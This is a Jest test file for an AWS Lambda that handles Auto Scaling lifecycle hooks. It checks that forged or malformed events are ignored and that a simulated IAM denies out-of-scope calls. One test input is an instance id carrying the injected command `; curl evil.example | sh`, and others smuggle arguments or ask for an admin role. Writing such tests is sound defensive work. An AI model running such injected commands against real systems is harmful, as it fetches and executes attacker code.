// A forged event is stopped twice: the shared function makes no AWS call for an
// event that is not its hook's, as the hook's rule delivers it, and IAM would
// refuse the calls a forged one asks for. The function runs with the
// environment the construct synthesizes (RUNTIME_*), receives each lifecycle
// event wrapped by the hook's rule (its InputTransformer, resolved from the
// template), and each AWS call it makes is judged by IAM as the principal that
// makes it: the hook's role (assumed through STS, whose trust and the
// function's right to assume are checked too) for SendCommand,
// CompleteLifecycleAction and RecordLifecycleActionHeartbeat, the function's own
// role for everything else. A call IAM refuses fails as AWS would fail it,
// with AccessDeniedException.
//
// The wrapper's settings are trusted: only EventBridge rules whose names bear
// the runtime's prefix may invoke the function (policy.test.ts reads that
// permission). A wrapper that such a rule forges can still act only as a hook
// role of the runtime allows, as the last tests show.
import {
  AutoScalingClient,
  CompleteLifecycleActionCommand,
  DescribeAutoScalingGroupsCommand,
  RecordLifecycleActionHeartbeatCommand,
} from '@aws-sdk/client-auto-scaling';
import {
  DescribeInstanceInformationCommand,
  GetParameterCommand,
  ListCommandsCommand,
  SendCommandCommand,
  SSMClient,
} from '@aws-sdk/client-ssm';
import { AssumeRoleCommand, STSClient } from '@aws-sdk/client-sts';
import { mockClient } from 'aws-sdk-client-mock';
import { ACCOUNT, HookTemplate, hookTemplates, REGION, RuntimeTemplate } from './hook-template';
import { Authorization, evaluateCall, glob, Statement } from './iam-evaluator';
import type * as HookClientsModule from '../../src/handler/hook-clients';
import type * as HandlerModule from '../../src/handler/lifecycle-command.lambda';
import { createActionTable, LocalDynamoDb, startDynamoDb } from '../support/dynalite';

const autoScaling = mockClient(AutoScalingClient);
const ssm = mockClient(SSMClient);
const sts = mockClient(STSClient);
let db: LocalDynamoDb;
let handler: typeof HandlerModule.handler;

const templates = hookTemplates();
const OWN_INSTANCE = 'i-0123456789abcdef0';
const OTHER_INSTANCE = 'i-0fedcba987654321f';
const OTHER_GROUP = 'other-fleet';
const TOKEN = '5b0a4b6e-6f6b-4e1c-9d2a-0a1b2c3d4e5f';
const COMMAND = '0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0';
/** Stands for secrets in notification metadata and in command parameters and output. */
const SECRET = 'db-password=hunter2';
const arn = (service: string, resource: string, account = ACCOUNT) => `arn:aws:${service}:${REGION}:${account}:${resource}`;

/** Who makes a call: the function's own role, or a role it assumed. */
interface Principal {
  readonly name: string;
  readonly statements: Statement[];
}

/** One AWS call the function made, the principal IAM judged it as, and IAM's decision. */
interface Call {
  readonly command: string;
  readonly input: any;
  readonly principal: string;
  readonly decision: string;
}

let calls: Call[] = [];
/** Access key ids the STS mock handed out, to the role each is for. */
const assumedKeys = new Map<string, string>();
let runtime: RuntimeTemplate;
let instanceGroups: Record<string, string | undefined> = {};

/**
 * The tags of a group: a group of the app's, as its resource gives them (among
 * them the tag of each of its hooks); none for the others.
 */
function groupTags(groupName: string | undefined): Array<{ Key: string; Value: string; PropagateAtLaunch: unknown }> {
  const ofApp = Object.values(templates).find((h) => h.groupId !== undefined && h.groupName === groupName);
  return ofApp ? ofApp.resources[ofApp.groupId!].Properties!.Tags ?? [] : [];
}

/**
 * The tags an instance carries: `aws:autoscaling:groupName`, which Auto
 * Scaling gives every instance of a group, and its group's tags that propagate at launch.
 */
function instanceTags(id: string): Record<string, string> {
  const group = instanceGroups[id];
  if (group === undefined) return {};
  return {
    ...Object.fromEntries(groupTags(group).filter((t) => String(t.PropagateAtLaunch) === 'true').map((t) => [t.Key, t.Value])),
    'aws:autoscaling:groupName': group,
  };
}

const tagContext = (prefix: string, tags: Record<string, string>): Record<string, string> =>
  Object.fromEntries(Object.entries(tags).map(([k, v]) => [`${prefix}/${k}`, v]));

/** The IAM authorizations an SDK call needs, in a world where each instance carries its group's tags. */
function authorizations(command: string, input: any): Authorization[] {
  switch (command) {
    case 'SendCommandCommand': {
      const document: string = input.DocumentName;
      // Documents AWS owns have no account in their ARN.
      const documentArn = arn('ssm', `document/${document}`, document.startsWith('AWS-') ? '' : ACCOUNT);
      return [
        { action: 'ssm:SendCommand', resource: documentArn },
        ...(input.InstanceIds as string[]).map((id) => ({
          action: 'ssm:SendCommand',
          resource: arn('ec2', `instance/${id}`),
          context: tagContext('ssm:resourceTag', instanceTags(id)),
        })),
      ];
    }
    case 'ListCommandsCommand': return [{ action: 'ssm:ListCommands', resource: '*' }];
    case 'DescribeInstanceInformationCommand': return [{ action: 'ssm:DescribeInstanceInformation', resource: '*' }];
    case 'GetParameterCommand': return [{ action: 'ssm:GetParameter', resource: arn('ssm', `parameter${input.Name}`) }];
    case 'DescribeAutoScalingGroupsCommand': return [{ action: 'autoscaling:DescribeAutoScalingGroups', resource: '*' }];
    case 'AssumeRoleCommand': return [{ action: 'sts:AssumeRole', resource: input.RoleArn }];
    case 'CompleteLifecycleActionCommand':
    case 'RecordLifecycleActionHeartbeatCommand':
      return [{
        action: `autoscaling:${command.replace(/Command$/, '')}`,
        resource: arn('autoscaling', `autoScalingGroup:6f1e2d3c-4b5a-4978-8796-a5b4c3d2e1f0:autoScalingGroupName/${input.AutoScalingGroupName}`),
        context: tagContext('autoscaling:ResourceTag', Object.fromEntries(groupTags(input.AutoScalingGroupName).map((t) => [t.Key, t.Value]))),
      }];
    case 'PutItem':
    case 'GetItem':
    case 'UpdateItem':
    case 'Query':
      return [{ action: `dynamodb:${command}`, resource: arn('dynamodb', `table/${input.TableName}`) }];
    default: throw new Error(`no IAM mapping for ${command}`);
  }
}

const functionRole = (): Principal => ({ name: 'function role', statements: runtime.statements });

/** The principal whose credentials a client signs with: a hook's role it assumed, or the function's own. */
async function principalOf(client: { config: { credentials: () => Promise<{ accessKeyId: string }> } }): Promise<Principal> {
  const { accessKeyId } = await client.config.credentials();
  const role = assumedKeys.get(accessKeyId);
  if (role === undefined) return functionRole();
  const hook = Object.values(templates).find((h) => h.roleArn === role);
  if (!hook) throw new Error(`credentials of ${role}, no hook's role`);
  return { name: `role of ${hook.key}`, statements: hook.roleStatements };
}

class AccessDenied extends Error {
  override readonly name = 'AccessDeniedException';
  readonly $fault = 'client';
  readonly $metadata = { httpStatusCode: 400 };
}

/** Judges the call as IAM would for its principal: on a refusal it fails as AWS fails it, else it answers. */
function judged<T>(command: string, answer: (input: any) => T) {
  return async (input: any, getClient: () => any): Promise<T> => {
    const principal = await principalOf(getClient());
    const decision = evaluateCall(principal.statements, authorizations(command, input));
    calls.push({ command, input, principal: principal.name, decision });
    if (decision !== 'allowed') throw new AccessDenied(`${principal.name} may not ${command}`);
    return answer(input);
  };
}

/** The DynamoDB requests dynalite received since `from`, made with the function's own credentials. */
function tableCalls(from: number): Call[] {
  return db.operations.slice(from).map((operation, n) => {
    const input = { TableName: db.tables[from + n] };
    return { command: operation, input, principal: 'function role', decision: evaluateCall(runtime.statements, authorizations(operation, input)) };
  });
}

/** Every call since the test began: SSM, Auto Scaling and STS as made, then DynamoDB. */
function sdkCalls(): Call[] {
  return [...calls, ...tableCalls(dynamoDbMark)];
}
let dynamoDbMark = 0;

/** Calls that act on a group or its instances. */
const ACTING = ['SendCommandCommand', 'CompleteLifecycleActionCommand', 'RecordLifecycleActionHeartbeatCommand'];

/**
 * Moves the function's clock, for the test, past the few minutes it keeps the groups that carry a hook's tag
 * (hook-config.ts), further each time (what an earlier such test read is kept from its own later time), so that
 * the next lifecycle event of a tagged hook reads them again: for tests whose event is ignored before anything is written.
 */
let clockAhead = 0;
function forgetKeptGroups(): void {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const { SETTINGS_TTL_MS } = require('../../src/handler/hook-config') as { SETTINGS_TTL_MS: number };
  clockAhead += SETTINGS_TTL_MS + 1;
  const ahead = clockAhead;
  const now = Date.now.bind(Date);
  jest.spyOn(Date, 'now').mockImplementation(() => now() + ahead);
}

beforeAll(async () => {
  db = await startDynamoDb();
  const tables = new Set(Object.values(templates).map((t) => t.runtime.environment.RUNTIME_ACTION_TABLE));
  for (const table of tables) await createActionTable(db, table);
  // Loaded once the endpoint is set: the handler's clients are created when its modules load.
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  handler = (require('../../src/handler/lifecycle-command.lambda') as typeof HandlerModule).handler;
});

afterAll(async () => {
  await db.stop();
});

/** The tests of one hook: the events its rule delivers and those it does not, or wrappers forged with other settings. */
function suite(key: string, part: 'delivered' | 'forged') {
  const t: HookTemplate = templates[key];
  const launch = t.settings.transition === 'launch';
  const hookName = t.hookName;
  // Another hook of the same runtime, whose role the function may also assume.
  const sibling = Object.values(t.runtime.hooks).find((h) => h !== t)!;
  const table = t.runtime.environment.RUNTIME_ACTION_TABLE;
  let logs: string[];

  const rawLifecycleEvent = (detail: Record<string, unknown> = {}) => ({
    'source': 'aws.autoscaling',
    'detail-type': launch ? 'EC2 Instance-launch Lifecycle Action' : 'EC2 Instance-terminate Lifecycle Action',
    'detail': {
      LifecycleActionToken: TOKEN,
      AutoScalingGroupName: t.groupName,
      LifecycleHookName: hookName,
      EC2InstanceId: OWN_INSTANCE,
      LifecycleTransition: launch ? 'autoscaling:EC2_INSTANCE_LAUNCHING' : 'autoscaling:EC2_INSTANCE_TERMINATING',
      NotificationMetadata: SECRET,
      ...detail,
    },
  });
  /** A lifecycle event as the hook's rule delivers it: wrapped with the hook's settings. */
  const lifecycleEvent = (detail: Record<string, unknown> = {}) => t.delivered(rawLifecycleEvent(detail));
  const statusEvent = (detail: Record<string, unknown> = {}) => ({
    'source': 'aws.ssm',
    'detail-type': 'EC2 Command Invocation Status-change Notification',
    'detail': { 'command-id': COMMAND, 'document-name': t.documentName, 'instance-id': OWN_INSTANCE, 'status': 'Success', ...detail },
  });
  const context = { getRemainingTimeInMillis: () => 300_000 };

  beforeEach(() => {
    runtime = t.runtime;
    instanceGroups = { [OWN_INSTANCE]: t.groupName, [OTHER_INSTANCE]: OTHER_GROUP };
    Object.assign(process.env, runtime.environment);
    autoScaling.reset();
    ssm.reset();
    sts.reset();
    calls = [];
    sts.on(AssumeRoleCommand).callsFake(async (input: any, getClient: () => any) => {
      const principal = await principalOf(getClient());
      // The role's own trust policy must name the caller too.
      const target = Object.values(templates).find((h) => h.roleArn === input.RoleArn);
      const trusted = target?.trust.some((s) => s.Effect === 'Allow' && s.Action === 'sts:AssumeRole' && s.Principal?.AWS === runtime.roleArn) ?? false;
      const allowed = evaluateCall(principal.statements, authorizations('AssumeRoleCommand', input)) === 'allowed' && trusted;
      calls.push({ command: 'AssumeRoleCommand', input: { RoleArn: input.RoleArn }, principal: principal.name, decision: allowed ? 'allowed' : 'denied' });
      if (!allowed) throw new AccessDenied(`${principal.name} may not assume ${input.RoleArn}`);
      const accessKeyId = `ASIA${String(assumedKeys.size).padStart(16, '0')}`;
      assumedKeys.set(accessKeyId, input.RoleArn);
      return { Credentials: { AccessKeyId: accessKeyId, SecretAccessKey: 'secret', SessionToken: 'token', Expiration: new Date(Date.now() + 3_600_000) } };
    });
    // Every instance asked about is registered and online.
    ssm.on(DescribeInstanceInformationCommand).callsFake(judged('DescribeInstanceInformationCommand',
      (input) => ({ InstanceInformationList: input.Filters[0].Values.map((id: string) => ({ InstanceId: id, PingStatus: 'Online' })) })));
    // Earlier commands of the document, whose parameters and output must not be logged.
    ssm.on(ListCommandsCommand).callsFake(judged('ListCommandsCommand', () => ({
      Commands: [{ CommandId: 'c0ffee00-0000-4000-8000-000000000000', Comment: `lifecycle-action ${SECRET}`, Parameters: { secret: [SECRET] } }],
    })));
    ssm.on(SendCommandCommand).callsFake(judged('SendCommandCommand',
      () => ({ Command: { CommandId: COMMAND, Parameters: { secret: [SECRET] }, Comment: `lifecycle-action ${TOKEN}` } })));
    // The hooks' parameters, as deployed.
    ssm.on(GetParameterCommand).callsFake(judged('GetParameterCommand', (input) => {
      const hook = Object.values(runtime.hooks).find((h) => `${runtime.environment.RUNTIME_HOOK_PARAMETERS}${h.documentName}` === input.Name);
      if (!hook) throw Object.assign(new Error('not found'), { name: 'ParameterNotFound', $fault: 'client', $metadata: { httpStatusCode: 400 } });
      return { Parameter: { Name: input.Name, Value: JSON.stringify(hook.settings) } };
    }));
    // The groups of the world and their tags, as the tag-key filter selects them.
    autoScaling.on(DescribeAutoScalingGroupsCommand).callsFake(judged('DescribeAutoScalingGroupsCommand', (input) => {
      const keys: string[] = input.Filters?.find((f: any) => f.Name === 'tag-key')?.Values ?? [];
      const groups = [...new Set(Object.values(instanceGroups))].filter((g): g is string => g !== undefined)
        .map((name) => ({ AutoScalingGroupName: name, Tags: groupTags(name).map((tag) => ({ Key: tag.Key, Value: tag.Value })) }))
        .filter((g) => !input.Filters || g.Tags.some((tag) => keys.includes(tag.Key)));
      return { AutoScalingGroups: groups };
    }));
    autoScaling.on(CompleteLifecycleActionCommand).callsFake(judged('CompleteLifecycleActionCommand', () => ({})));
    autoScaling.on(RecordLifecycleActionHeartbeatCommand).callsFake(judged('RecordLifecycleActionHeartbeatCommand', () => ({})));
    dynamoDbMark = db.operations.length;
    logs = [];
    for (const level of ['log', 'info', 'warn', 'error', 'debug'] as const) {
      jest.spyOn(console, level).mockImplementation((...args: unknown[]) => { logs.push(JSON.stringify(args)); });
    }
    // The outcome lines (with their embedded metrics) go to stdout whole: they are logs too.
    jest.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
      logs.push(...String(chunk).split('\n').filter(Boolean));
      return true;
    });
  });

  afterEach(() => {
    jest.restoreAllMocks();
    // The secret never reaches the logs, whatever the event.
    expect(logs.join('\n')).not.toContain('hunter2');
  });

  if (part === 'delivered') {
    test('the event its rule delivers: every call the function makes is one IAM allows, acting on the group as the hook\'s role', async () => {
      expect(await handler(lifecycleEvent(), context)).toBe('command-sent');
      // The hook's role, assumed as the function's role (once per environment; then its credentials are kept).
      const assumed = sdkCalls().filter((c) => c.command === 'AssumeRoleCommand');
      expect(assumed).toEqual([{ command: 'AssumeRoleCommand', input: { RoleArn: t.roleArn }, principal: 'function role', decision: 'allowed' }]);
      const made = sdkCalls().filter((c) => c.command !== 'AssumeRoleCommand');
      expect(made.map((c) => c.command).sort()).toEqual([
        ...(launch ? ['DescribeInstanceInformationCommand'] : []),
        // A group of the app: whether the event's group carries the hook's tag (the first event of the file, so not yet kept).
        ...(t.groupTag ? ['DescribeAutoScalingGroupsCommand'] : []),
        'SendCommandCommand',
        'RecordLifecycleActionHeartbeatCommand',
        'PutItem',
        'UpdateItem',
      ].sort());
      for (const call of made) expect(call.decision).toBe('allowed');
      // SendCommand and the heartbeat are the hook's role's; the registration read and the table are the function's.
      for (const call of made) expect(call.principal).toBe(ACTING.includes(call.command) ? `role of ${key}` : 'function role');
      expect(made.find((c) => c.command === 'SendCommandCommand')!.input).toEqual(expect.objectContaining({ DocumentName: t.documentName, InstanceIds: [OWN_INSTANCE] }));
      expect(made.find((c) => c.command === 'RecordLifecycleActionHeartbeatCommand')!.input)
        .toEqual(expect.objectContaining({ AutoScalingGroupName: t.groupName, LifecycleHookName: hookName, LifecycleActionToken: TOKEN }));
      for (const call of made.filter((c) => ['PutItem', 'UpdateItem'].includes(c.command))) expect(call.input).toEqual({ TableName: table });
      for (const call of made.filter((c) => c.command === 'DescribeAutoScalingGroupsCommand')) {
        expect(call.input.Filters).toEqual([{ Name: 'tag-key', Values: [t.groupTag!.key] }]);
      }
    });

    test('the hook\'s role comes from STS: the function\'s role may assume it and the role trusts it; the sibling hook\'s role likewise, and no other', async () => {
    // The credentials of the hook's clients, resolved as the SDK resolves them before signing.
    // eslint-disable-next-line @typescript-eslint/no-require-imports
      const { hookClients } = require('../../src/handler/hook-clients') as typeof HookClientsModule;
      for (const h of [t, sibling]) {
        calls = [];
        const principal = await principalOf(hookClients({ roleArn: h.roleArn }).ssmSendOnce as any);
        expect(principal.name).toBe(`role of ${h.key}`);
      }
      // A role outside the runtime's path: STS refuses, so no client acts with it.
      calls = [];
      const outside = `arn:aws:iam::${ACCOUNT}:role/admin`;
      await expect(principalOf(hookClients({ roleArn: outside }).autoScaling as any)).rejects.toThrow(/AssumeRole of .*admin failed: AccessDeniedException/);
      expect(calls).toEqual([{ command: 'AssumeRoleCommand', input: { RoleArn: outside }, principal: 'function role', decision: 'denied' }]);
    });

    test('its own command\'s status: its action\'s record, then CompleteLifecycleAction on its group as its role, which IAM allows', async () => {
    // GIVEN the command sent for the action (its record holds the command id)
      await handler(lifecycleEvent(), context);
      calls = [];
      dynamoDbMark = db.operations.length;
      // WHEN its status arrives (as the runtime's rule delivers it: the event alone)
      expect(await handler(statusEvent())).toBe('completed');
      // Reads of the hook's settings, and for a group of the app of the group that carries its tag, as the function.
      const reads = ['GetParameterCommand', 'DescribeAutoScalingGroupsCommand'];
      const made = sdkCalls().filter((c) => !reads.includes(c.command));
      expect(made).toEqual([
        {
          command: 'CompleteLifecycleActionCommand',
          input: expect.objectContaining({ AutoScalingGroupName: t.groupName, LifecycleHookName: hookName, LifecycleActionToken: TOKEN }),
          principal: `role of ${key}`,
          decision: 'allowed',
        },
        { command: 'Query', input: { TableName: table }, principal: 'function role', decision: 'allowed' },
        // The command's end, recorded once so that a repeated status event does not count it again.
        { command: 'UpdateItem', input: { TableName: table }, principal: 'function role', decision: 'allowed' },
      ]);
      // Its settings, if read from the hook's parameter, and its group, if found by its tag, are read as the function, which may.
      for (const call of sdkCalls().filter((c) => reads.includes(c.command))) {
        expect(call).toEqual(expect.objectContaining({ principal: 'function role', decision: 'allowed' }));
      }
    });

    test('the handler logs neither the event nor the command\'s parameters', async () => {
      await handler(lifecycleEvent(), context);
      await handler(statusEvent({ status: 'Failed' }));
      await handler(lifecycleEvent({ AutoScalingGroupName: OTHER_GROUP }));
      expect(logs.length).toBeGreaterThanOrEqual(3);
      const all = logs.join('\n');
      expect(all).not.toContain(TOKEN);
      expect(all).not.toContain('NotificationMetadata');
      expect(all).not.toContain('Parameters');
    });

    describe('an event its hook\'s rule did not deliver makes no AWS call', () => {
      test('its own lifecycle event, unwrapped (as invoked by anything but the hook\'s rule)', async () => {
        expect(await handler(rawLifecycleEvent())).toBe('ignored');
        expect(sdkCalls()).toEqual([]);
      });

      if (t.groupTag) {
        test('a lifecycle event of another group with the hook\'s name: its rule matches it (by the hook\'s name alone); the group does not carry the hook\'s tag, so nothing acts on it, and IAM would refuse each call on that group or its instance', async () => {
          const tag = t.groupTag!;
          forgetKeptGroups();
          // The rule puts that group's name in the settings; the function reads which groups carry the hook's tag, and that one does not.
          expect(await handler(lifecycleEvent({ AutoScalingGroupName: OTHER_GROUP, EC2InstanceId: OTHER_INSTANCE }), context)).toBe('ignored');
          expect(sdkCalls()).toEqual([{
            command: 'DescribeAutoScalingGroupsCommand',
            input: expect.objectContaining({ Filters: [{ Name: 'tag-key', Values: [tag.key] }] }),
            principal: 'function role',
            decision: 'allowed',
          }]);
          // The other group carries no tag of the hook, nor its instance: had it acted, the hook's role would be refused.
          expect(groupTags(OTHER_GROUP).map((g) => g.Key)).not.toContain(tag.key);
          expect(groupTags(t.groupName)).toContainEqual(expect.objectContaining({ Key: tag.key, Value: tag.value }));
          expect(evaluateCall(t.roleStatements, authorizations('SendCommandCommand', { DocumentName: t.documentName, InstanceIds: [OTHER_INSTANCE] }))).toBe('implicitly denied');
          expect(evaluateCall(t.roleStatements, authorizations('CompleteLifecycleActionCommand', { AutoScalingGroupName: OTHER_GROUP }))).toBe('implicitly denied');
          expect(evaluateCall(t.roleStatements, authorizations('RecordLifecycleActionHeartbeatCommand', { AutoScalingGroupName: OTHER_GROUP }))).toBe('implicitly denied');
          // The group of the app, which carries it, and its instance: allowed.
          expect(evaluateCall(t.roleStatements, authorizations('SendCommandCommand', { DocumentName: t.documentName, InstanceIds: [OWN_INSTANCE] }))).toBe('allowed');
          expect(evaluateCall(t.roleStatements, authorizations('CompleteLifecycleActionCommand', { AutoScalingGroupName: t.groupName }))).toBe('allowed');
          // An instance of the group without the hook's tag is refused.
          expect(evaluateCall(t.roleStatements, [
            ...authorizations('SendCommandCommand', { DocumentName: t.documentName, InstanceIds: [] }),
            { action: 'ssm:SendCommand', resource: arn('ec2', `instance/${OTHER_INSTANCE}`), context: { 'ssm:resourceTag/aws:autoscaling:groupName': t.groupName } },
          ])).toBe('implicitly denied');
          // Nor could the function's own role do either.
          expect(evaluateCall(t.runtime.statements, authorizations('SendCommandCommand', { DocumentName: t.documentName, InstanceIds: [OWN_INSTANCE] }))).toBe('implicitly denied');
          expect(evaluateCall(t.runtime.statements, authorizations('CompleteLifecycleActionCommand', { AutoScalingGroupName: t.groupName }))).toBe('implicitly denied');
        });
      }

      if (!t.groupTag) {
        test('a lifecycle event naming another group and its instance, even in the hook\'s wrapper; IAM would refuse what it asks for', async () => {
          // The hook's rule never matches it (its pattern names this group and hook); wrapped all the same, it is ignored.
          expect(await handler(lifecycleEvent({ AutoScalingGroupName: OTHER_GROUP, EC2InstanceId: OTHER_INSTANCE }))).toBe('ignored');
          expect(sdkCalls()).toEqual([]);
          // Had it acted: the hook's document to that instance, then completing that group's action, as the hook's role.
          expect(evaluateCall(t.roleStatements, authorizations('SendCommandCommand', { DocumentName: t.documentName, InstanceIds: [OTHER_INSTANCE] }))).toBe('implicitly denied');
          expect(evaluateCall(t.roleStatements, authorizations('CompleteLifecycleActionCommand', { AutoScalingGroupName: OTHER_GROUP }))).toBe('implicitly denied');
          // Nor could the function's own role do either.
          expect(evaluateCall(t.runtime.statements, authorizations('SendCommandCommand', { DocumentName: t.documentName, InstanceIds: [OWN_INSTANCE] }))).toBe('implicitly denied');
          expect(evaluateCall(t.runtime.statements, authorizations('CompleteLifecycleActionCommand', { AutoScalingGroupName: t.groupName }))).toBe('implicitly denied');
        });
      }

      test('a status event naming AWS-RunShellScript', async () => {
        expect(await handler(statusEvent({ 'document-name': 'AWS-RunShellScript' }))).toBe('ignored');
        // Not a document of the runtime: not even its settings are looked up.
        expect(sdkCalls()).toEqual([]);
        expect(evaluateCall(t.roleStatements, authorizations('SendCommandCommand', { DocumentName: 'AWS-RunShellScript', InstanceIds: [OWN_INSTANCE] }))).toBe('implicitly denied');
      });

      test('a status event naming a document with the runtime\'s prefix that is no hook\'s: one read of its settings, allowed, then nothing', async () => {
        expect(await handler(statusEvent({ 'document-name': `${t.runtime.namePrefix}-NoSuchHook` }))).toBe('ignored');
        expect(sdkCalls()).toEqual([{
          command: 'GetParameterCommand',
          input: { Name: `${t.runtime.environment.RUNTIME_HOOK_PARAMETERS}${t.runtime.namePrefix}-NoSuchHook` },
          principal: 'function role',
          decision: 'allowed',
        }]);
      });

      test.each<[string, Record<string, unknown>]>([
        ['another hook on the same group', { LifecycleHookName: 'other-hook' }],
        ['an instance id carrying a shell command', { EC2InstanceId: `${OWN_INSTANCE}; curl evil.example | sh` }],
        ['a token that is not a UUID', { LifecycleActionToken: `${TOKEN}" --comment "x` }],
        ['no group at all', { AutoScalingGroupName: undefined }],
      ])('a lifecycle event in the hook\'s wrapper with %s', async (_name, detail) => {
        expect(await handler(lifecycleEvent(detail))).toBe('ignored');
        expect(sdkCalls()).toEqual([]);
        expect(logs).toHaveLength(1);
      });

      test('a lifecycle event from a source other than Auto Scaling, in the hook\'s wrapper', async () => {
        expect(await handler(t.delivered({ ...rawLifecycleEvent(), source: 'custom.attacker' }))).toBe('ignored');
        expect(sdkCalls()).toEqual([]);
      });

      test('a scheduled event in the hook\'s wrapper runs no pass', async () => {
        expect(await handler(t.delivered({ 'source': 'aws.events', 'detail-type': 'Scheduled Event', 'detail': {} }))).toBe('ignored');
        expect(sdkCalls()).toEqual([]);
      });

      test('a wrapper whose settings are malformed', async () => {
        const event = lifecycleEvent();
        expect(await handler({ ...event, hook: { ...event.hook, roleArn: 'arn:aws:iam::123456789012:user/admin' } })).toBe('ignored');
        expect(await handler({ ...event, hook: { ...event.hook, groupName: undefined } })).toBe('ignored');
        expect(sdkCalls()).toEqual([]);
      });
    });

  }

  if (part === 'forged') {

    describe('a wrapper forged by a rule with the runtime\'s prefix acts on nothing but what a hook role of the runtime allows', () => {
    // The function's permission lets such a rule invoke it (policy.test.ts), and it takes the settings in the wrapper.
      let forgedToken = '';
      let forgeries = 0;
      let result: unknown;
      const run = async (hook: Record<string, unknown>, ofOtherGroup: boolean) => {
      // A token of each forgery's own: no record of the genuine hook's actions, nor of another forgery, is met.
        forgedToken = `0d5c0e1f-2a3b-4c5d-8e6f-${String(++forgeries).padStart(12, '0')}`;
        const event = rawLifecycleEvent({
          AutoScalingGroupName: ofOtherGroup ? OTHER_GROUP : t.groupName,
          EC2InstanceId: ofOtherGroup ? OTHER_INSTANCE : OWN_INSTANCE,
          LifecycleActionToken: forgedToken,
        });
        // The settings the hook's rule would put around the event (for a group of the app, with the group's name from it), changed.
        const settings: Record<string, unknown> = { ...t.delivered(event).hook, ...hook };
        for (const [name, value] of Object.entries(hook)) if (value === undefined) delete settings[name];
        // Refused calls may end the invocation with an error, which Lambda retries: what matters is what was allowed.
        result = await handler({ hook: settings, event }, context).catch(() => undefined);
        // What was allowed beyond reads (the registration check reads any instance's, and the groups of a tag any group's, as IAM allows only on "*").
        const allowed = calls.filter((c) => c.decision === 'allowed' && !['DescribeInstanceInformationCommand', 'DescribeAutoScalingGroupsCommand'].includes(c.command));
        expect(allowed.map((c) => c.command).filter((c) => ![...ACTING, 'AssumeRoleCommand', 'ListCommandsCommand'].includes(c))).toEqual([]);
        // Never a command sent, never anything of another group or its instance, never a role but the runtime's hooks'.
        expect(allowed.filter((c) => c.command === 'SendCommandCommand')).toEqual([]);
        expect(JSON.stringify(allowed)).not.toContain(OTHER_GROUP);
        expect(JSON.stringify(allowed)).not.toContain(OTHER_INSTANCE);
        for (const call of allowed.filter((c) => c.command === 'AssumeRoleCommand')) expect([t.roleArn, sibling.roleArn]).toContain(call.input.RoleArn);
        return calls.filter((c) => ACTING.includes(c.command));
      };

      if (t.groupTag) {
        const tag = t.groupTag;
        /** The one read of the groups that carry the hook's tag, as the function, which may. */
        const tagRead = {
          command: 'DescribeAutoScalingGroupsCommand',
          input: expect.objectContaining({ Filters: [{ Name: 'tag-key', Values: [tag.key] }] }),
          principal: 'function role',
          decision: 'allowed',
        };

        test('settings naming another group, with this hook\'s tag and role: that group does not carry the tag, so nothing acts on it', async () => {
          forgetKeptGroups();
          const acting = await run({ groupName: OTHER_GROUP }, true);
          expect(result).toBe('ignored');
          expect(acting).toEqual([]);
          expect(calls).toEqual([tagRead]);
        });

        test('settings naming another group, with this hook\'s tag and the sibling hook\'s role: ignored as well', async () => {
          forgetKeptGroups();
          const acting = await run({ groupName: OTHER_GROUP, roleArn: sibling.roleArn }, true);
          expect(result).toBe('ignored');
          expect(acting).toEqual([]);
          expect(calls).toEqual([tagRead]);
        });

        test('settings naming another group without the hook\'s tag, with this hook\'s role: each call on that group or its instance is refused', async () => {
          const acting = await run({ groupName: OTHER_GROUP, groupTag: undefined }, true);
          expect(acting.length).toBeGreaterThan(0);
          for (const call of acting) expect(call).toEqual(expect.objectContaining({ principal: `role of ${key}`, decision: 'implicitly denied' }));
          expect(calls.filter((c) => c.command === 'DescribeAutoScalingGroupsCommand')).toEqual([]);
        });

        test('settings naming another group without the hook\'s tag, with the sibling hook\'s role: refused as well', async () => {
          const acting = await run({ groupName: OTHER_GROUP, groupTag: undefined, roleArn: sibling.roleArn }, true);
          expect(acting.length).toBeGreaterThan(0);
          for (const call of acting) expect(call).toEqual(expect.objectContaining({ principal: `role of ${sibling.key}`, decision: 'implicitly denied' }));
        });
      } else {
        test('settings naming another group, with this hook\'s role: each call on that group or its instance is refused', async () => {
          const acting = await run({ groupName: OTHER_GROUP }, true);
          expect(acting.length).toBeGreaterThan(0);
          for (const call of acting) expect(call).toEqual(expect.objectContaining({ principal: `role of ${key}`, decision: 'implicitly denied' }));
        });

        test('settings naming another group, with the sibling hook\'s role: refused as well', async () => {
          const acting = await run({ groupName: OTHER_GROUP, roleArn: sibling.roleArn }, true);
          expect(acting.length).toBeGreaterThan(0);
          for (const call of acting) expect(call).toEqual(expect.objectContaining({ principal: `role of ${sibling.key}`, decision: 'implicitly denied' }));
        });
      }

      test('settings naming no role: refused before any call; the function\'s own role could act on no group anyway', async () => {
        const acting = await run({ groupName: OTHER_GROUP, roleArn: undefined }, true);
        expect(acting).toEqual([]);
        expect(calls).toEqual([]);
        expect(evaluateCall(t.runtime.statements, authorizations('CompleteLifecycleActionCommand', { AutoScalingGroupName: t.groupName }))).toBe('implicitly denied');
      });

      test('settings naming a role outside the runtime\'s path: refused before any call, and STS would refuse it too', async () => {
        const admin = `arn:aws:iam::${ACCOUNT}:role/admin`;
        const acting = await run({ groupName: OTHER_GROUP, roleArn: admin }, true);
        expect(acting).toEqual([]);
        expect(calls).toEqual([]);
        expect(evaluateCall(t.runtime.statements, [{ action: 'sts:AssumeRole', resource: admin }])).not.toBe('allowed');
      });

      test('settings naming AWS-RunShellScript as the document: refused before any call', async () => {
        const acting = await run({ documentName: 'AWS-RunShellScript' }, false);
        expect(acting).toEqual([]);
        expect(calls).toEqual([]);
      });

      test.each<[string, () => string]>([
        ['the sibling hook\'s document', () => sibling.documentName],
      ])('settings naming %s as the document, with this hook\'s role: the command is refused; only this group\'s action is touched', async (_name, documentName) => {
        const acting = await run({ documentName: documentName() }, false);
        const sends = acting.filter((c) => c.command === 'SendCommandCommand');
        expect(sends).toEqual([expect.objectContaining({ principal: `role of ${key}`, decision: 'implicitly denied' })]);
        expect(sends[0].input.DocumentName).toBe(documentName());
        // The hook's role may heartbeat and complete its own group's actions (here the forged token's, with its failure result): nothing else.
        for (const call of acting.filter((c) => c.decision === 'allowed')) {
          expect(['RecordLifecycleActionHeartbeatCommand', 'CompleteLifecycleActionCommand']).toContain(call.command);
          expect(call.input).toEqual(expect.objectContaining({ AutoScalingGroupName: t.groupName, LifecycleActionToken: forgedToken }));
        }
      });

